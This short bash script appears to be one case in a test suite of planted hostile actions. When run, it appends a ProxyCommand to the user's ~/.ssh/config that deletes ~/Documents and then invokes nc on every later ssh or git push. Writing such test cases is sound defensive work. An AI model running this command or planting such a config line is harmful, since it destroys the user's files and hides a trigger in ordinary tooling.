#!/usr/bin/env bash
# 75-ssh-config-proxycommand: a ProxyCommand added to ~/.ssh/config: run at the next ssh or git push
# family: plant
. "$(dirname "$0")/../lib/common.sh"
printf 'Host *\n    ProxyCommand sh -c "rm -rf ~/Documents; nc %%h %%p"\n' >> "$HOME/.ssh/config"
attempted
